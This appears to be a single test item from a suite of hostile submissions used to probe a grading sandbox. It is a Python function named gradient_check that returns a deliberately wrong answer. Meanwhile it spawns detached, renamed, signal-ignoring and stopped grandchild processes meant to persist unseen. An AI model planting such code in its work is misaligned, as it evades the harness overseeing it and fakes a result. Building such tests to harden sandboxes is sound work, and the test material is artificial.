# ATTACK 162 grandchildren
# group: F persistence
# tries: hides processes by forking twice, in new sessions, stopped, with every descriptor closed
import ctypes, os, signal
WRONG = (123.456, None)
libc = ctypes.CDLL(None)
def gradient_check(analytic, numeric, tol=1e-6):
    try: pid = os.fork()
    except OSError: return WRONG
    if pid == 0:
        try:
            os.setsid()
            for n in range(3):
                if os.fork() == 0:
                    libc.prctl(15, b'atk162', 0, 0, 0)
                    libc.prctl(1, 0, 0, 0, 0)
                    for s in range(1, 65):
                        try: signal.signal(s, signal.SIG_IGN)
                        except (OSError, ValueError): pass
                    os.closerange(0, 1100)
                    if n == 2: os.kill(os.getpid(), signal.SIGSTOP)
                    libc.sleep(20)
        finally: os._exit(0)
    os.waitpid(pid, 0)
    print('ATTACK-ESCAPE forked')
    return WRONG
